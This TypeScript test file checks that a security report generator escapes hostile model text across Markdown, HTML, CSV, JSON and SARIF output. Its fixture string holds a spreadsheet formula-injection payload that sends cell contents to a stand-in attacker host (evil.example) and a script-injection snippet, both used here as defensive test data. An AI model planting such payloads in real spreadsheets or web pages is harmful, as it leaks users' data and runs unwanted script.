/**
 * Model text reaches every report format escaped: a name or description holding `|`, `,`,
 * `"`, `<script>` and `=HYPERLINK(` shows up literally in Markdown (rendered by micromark with
 * GFM tables, as GitHub does), HTML (loaded in real Chromium), CSV (formula-guarded), JSON and
 * SARIF, and control characters never reach the terminal.
 */
import { lint } from 'markdownlint/sync';
import { micromark } from 'micromark';
import { gfmTable, gfmTableHtml } from 'micromark-extension-gfm-table';
import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_TABLES, renderCsv, renderHtml, renderJson, renderMarkdown, renderSarif } from '../../src/generators/security/index.js';
import { escapeMarkdown } from '../../src/generators/security/escape.js';
import { launchBrowser } from '../../src/render/browser.js';
import { analyzeSecurity, type SecurityAnalysis } from '../../src/security/index.js';
import { loadFixture, validateSarif } from './helpers.js';

const NASTY = '=HYPERLINK("http://evil.example/?q="&A1,"click") | a, "b" <script>alert(1)</script>';
const GROUP_NAME = NASTY;
const RULE_DESCRIPTION = `-2+3 ${NASTY}`;
const LOG_GROUP_NAME = `/ecs/${NASTY}`;
const REASON = `Kept forever on purpose: ${NASTY}`;

let analysis: SecurityAnalysis;
let browser: Browser;
beforeAll(async () => {
  analysis = analyzeSecurity(await loadFixture('escaping.yaml'));
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** Loads HTML in Chromium with JavaScript dialogs recorded, and reads what a reader would see. */
async function inBrowser(html: string) {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.setContent(html, { waitUntil: 'load' });
  const seen = await page.evaluate(() => ({
    scripts: document.querySelectorAll('script').length,
    headers: [...document.querySelectorAll('th')].map((th) => th.textContent ?? ''),
    cells: [...document.querySelectorAll('td')].map((td) => td.textContent ?? ''),
    rows: [...document.querySelectorAll('table')].map((table) => [...table.querySelectorAll('tr')].map((tr) => tr.children.length)),
    text: document.body.innerText,
  }));
  await page.close();
  return { ...seen, dialogs };
}

/** RFC 4180 parser, for reading the CSV back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += c;
  }
  expect(quoted).toBe(false);
  expect(field).toBe('');
  return rows;
}

describe('escaping of model text', () => {
  it('the fixture really carries the hostile text into the analysis', () => {
    expect(analysis.ruleTables[0]!.name.en).toBe(GROUP_NAME);
    expect(analysis.ruleTables[0]!.inbound[0]!.description.en).toBe(RULE_DESCRIPTION);
    expect(analysis.suppressed[0]!.message).toContain(LOG_GROUP_NAME);
    expect(analysis.suppressed[0]!.suppression.reason).toBe(REASON);
  });

  it('Markdown: GFM tables keep their columns and show the text literally, without HTML', async () => {
    const markdown = renderMarkdown([analysis]);
    const issues = lint({ strings: { report: markdown }, config: { default: false, MD033: true, MD055: true, MD056: true } }).report ?? [];
    expect(issues.map((i) => `${i.lineNumber} ${i.ruleNames.join('/')} ${i.errorDetail ?? ''}`)).toEqual([]);
    const html = micromark(markdown, { extensions: [gfmTable()], htmlExtensions: [gfmTableHtml()] });
    const seen = await inBrowser(html);
    expect(seen.scripts).toBe(0);
    expect(seen.dialogs).toEqual([]);
    expect(seen.headers).toContain(GROUP_NAME);
    expect(seen.cells).toContain(RULE_DESCRIPTION);
    expect(seen.cells).toContain(REASON);
    expect(seen.cells.some((cell) => cell.includes(LOG_GROUP_NAME))).toBe(true);
    for (const widths of seen.rows) expect(new Set(widths).size, `ragged table ${JSON.stringify(widths)}`).toBe(1);
  });

  it('Markdown: the escaper neutralises block markers and every inline construct', () => {
    const cases = ['# heading', '- item', '1. item', '> quote', '*em* _em_ `code` [link](x) ![img](y) ~~del~~', 'a\nb|c', '&amp; <b>'];
    for (const text of cases) {
      const html = micromark(escapeMarkdown(text), { extensions: [gfmTable()], htmlExtensions: [gfmTableHtml()] });
      expect(html, text).toMatch(/^<p>[^<]*<\/p>$/);
    }
  });

  it('HTML: Chromium shows the text literally and runs no script', async () => {
    const html = renderHtml([analysis]);
    expect(html).toContain("Content-Security-Policy\" content=\"default-src 'none'");
    const seen = await inBrowser(html);
    expect(seen.scripts).toBe(0);
    expect(seen.dialogs).toEqual([]);
    expect(seen.headers).toContain(GROUP_NAME);
    expect(seen.cells).toContain(RULE_DESCRIPTION);
    expect(seen.cells).toContain(REASON);
    expect(seen.text).toContain(`Inbound: 443 (HTTPS) from 0.0.0.0/0`);
    for (const widths of seen.rows) expect(new Set(widths).size).toBe(1);
  });

  it('CSV: every table parses back to rectangular rows, with formula-like cells guarded by a quote', () => {
    for (const table of CSV_TABLES) {
      const rows = parseCsv(renderCsv(analysis, table));
      expect(rows.length, table).toBeGreaterThan(1);
      for (const row of rows) expect(row.length, `${table}: ${JSON.stringify(row)}`).toBe(rows[0]!.length);
      for (const field of rows.flat()) expect(field, `${table}: unguarded ${field}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    const matrix = parseCsv(renderCsv(analysis, 'matrix'));
    expect(matrix[0]).toContain(`'${GROUP_NAME}`);
    const rules = parseCsv(renderCsv(analysis, 'rules'));
    expect(rules.flat()).toContain(`'${RULE_DESCRIPTION}`);
    const findings = parseCsv(renderCsv(analysis, 'findings'));
    const suppressed = findings.find((row) => row[1] === 'sec/log-retention')!;
    expect(suppressed[3]).toContain(LOG_GROUP_NAME);
    expect(suppressed[9]).toBe(REASON);
  });

  it('JSON: the text survives a round trip exactly', () => {
    const back = JSON.parse(renderJson(analysis)) as SecurityAnalysis;
    expect(back.ruleTables[0]!.name.en).toBe(GROUP_NAME);
    expect(back.ruleTables[0]!.inbound[0]!.description.en).toBe(RULE_DESCRIPTION);
    expect(back.suppressions[0]!.reason).toBe(REASON);
    expect(back).toEqual(JSON.parse(JSON.stringify(analysis)));
  });

  it('SARIF: messages and justifications keep the text and the log still validates', () => {
    const log = JSON.parse(renderSarif([analysis]));
    expect(validateSarif(log).valid).toBe(true);
    const result = log.runs[0].results.find((r: { ruleId: string }) => r.ruleId === 'sec/log-retention');
    expect(result.message.text).toContain(LOG_GROUP_NAME);
    expect(result.suppressions[0].justification).toBe(REASON);
  });
});
